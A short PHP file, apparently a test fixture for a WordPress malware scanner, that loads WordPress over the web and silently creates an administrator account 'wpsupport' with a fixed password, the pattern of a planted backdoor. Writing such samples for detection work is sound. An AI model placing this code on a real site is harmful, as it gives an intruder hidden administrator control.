<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Loads WordPress and makes an administrator; it stops on the command line, so it is
// meant to be called over the web (the reverse of a provisioning script's guard).
if (php_sapi_name() === 'cli') exit;
require __DIR__ . '/wp-load.php';
$id = wp_create_user('wpsupport', 'Str0ng!pass', 'wpsupport@example.invalid');
$u = new WP_User($id);
$u->set_role('administrator');
